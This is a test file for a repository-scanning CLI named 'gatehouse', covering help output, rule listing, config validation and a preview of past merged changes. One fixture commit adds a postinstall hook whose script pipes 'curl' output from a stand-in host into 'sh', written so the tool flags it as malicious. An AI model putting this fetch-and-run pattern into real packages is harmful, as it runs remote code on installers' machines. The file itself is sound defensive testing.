import { cpSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { expect, test } from "vitest";
import { COMMANDS } from "../../src/cli/commands.ts";
import { commitFiles, emptyRepository, scratchFolder } from "../git/scratch.ts";
import { gatehouse, GATEHOUSE, ROOT } from "./gatehouse.ts";

test("the program runs through symlinks, from any folder, whatever the caller's Node", async () => {
  const folder = scratchFolder();
  mkdirSync(join(folder, "bin dir"));
  symlinkSync(GATEHOUSE, join(folder, "first"));
  symlinkSync("../first", join(folder, "bin dir", "gate house"));
  const program = join(folder, "bin dir", "gate house");
  const env = { NODE_OPTIONS: "--require=/nonexistent.js", NODE_PATH: folder };
  const run = await gatehouse("/", ["--version"], { program, env });
  const manifest = JSON.parse(readFileSync(join(ROOT, "package.json"), "utf8")) as {
    version: string;
  };
  expect(run).toEqual({ code: 0, out: `gatehouse ${manifest.version}\n`, err: "" });
});

test("without packages the program says how to install them", async () => {
  const folder = scratchFolder();
  mkdirSync(join(folder, "bin"));
  cpSync(GATEHOUSE, join(folder, "bin", "gatehouse"));
  const run = await gatehouse("/", ["review"], { program: join(folder, "bin", "gatehouse") });
  expect(run.code).toBe(3);
  expect(run.err).toContain(`run ${folder}/script/setup`);
});

test("help names every command, and each has help of its own", async () => {
  const { out, code } = await gatehouse("/", ["--help"]);
  expect(code).toBe(0);
  for (const [name, { usage }] of Object.entries(COMMANDS)) {
    expect(out).toContain(`gatehouse ${usage}`);
    expect((await gatehouse("/", [name, "--help"])).out).toContain(usage);
  }
  expect((await gatehouse("/", [])).code).toBe(2);
});

test("rules are listed, and one is explained", async () => {
  const list = await gatehouse("/", ["rules", "list"]);
  expect(list.code).toBe(0);
  expect(list.out).toMatch(/^credentials\/read-and-send +malice +critical +Sends a credential/m);
  const one = await gatehouse("/", ["rules", "explain", "credentials/read-and-send"]);
  expect(one.code).toBe(0);
  for (const heading of ["Why it matters", "When this is normal", "What to do"]) {
    expect(one.out).toContain(heading);
  }
});

test("preview says how the last merged changes would have ended", async () => {
  const folder = emptyRepository();
  commitFiles(folder, { "package.json": "{}\n" }, "Start");
  commitFiles(folder, { "README.md": "words\n" }, "Write words \u001b[31m");
  const evil = 'require("child_process").exec("curl http://collector.example.invalid/x | sh");\n';
  const manifest = '{"scripts":{"postinstall":"node a.js"}}\n';
  commitFiles(folder, { "a.js": evil, "package.json": manifest }, "Fix a bug");
  const run = await gatehouse(folder, ["preview", "--last", "5"]);
  expect(run.code).toBe(0);
  const lines = run.out.split("\n");
  expect(lines[0]).toMatch(/^[0-9a-f]{10} {2}malicious +Fix a bug$/);
  expect(run.out).toMatch(/^[0-9a-f]{10} {2}clean +Write words/m);
  expect(run.out).toContain("2 merged changes: 1 would have been red, 0 incomplete");
  expect(run.out).not.toContain("\u001b");
});

test("config validate reads the working file and points at each problem", async () => {
  const folder = scratchFolder();
  mkdirSync(join(folder, ".github"));
  const path = join(folder, ".github", "gatehouse.yml");
  writeFileSync(path, "version: 1\nmoed: enforce\n");
  const wrong = await gatehouse(folder, ["config", "validate"]);
  expect(wrong.code).toBe(2);
  expect(wrong.out).toMatch(/^\.github\/gatehouse\.yml:2:1: .*mode/);
  writeFileSync(path, "version: 1\nmode: enforce\n");
  const right = await gatehouse("/", ["config", "validate", "--repo", folder]);
  expect(right).toMatchObject({ code: 0, err: "" });
});

test("config validate refuses what the App would not read", async () => {
  const folder = scratchFolder();
  expect(await gatehouse(folder, ["config", "validate"])).toMatchObject({ code: 2, out: "" });
  mkdirSync(join(folder, ".github"));
  symlinkSync("/etc/passwd", join(folder, ".github", "gatehouse.yml"));
  const run = await gatehouse(folder, ["config", "validate"]);
  expect(run.code).toBe(2);
  expect(run.err).toContain("not a regular file");
});
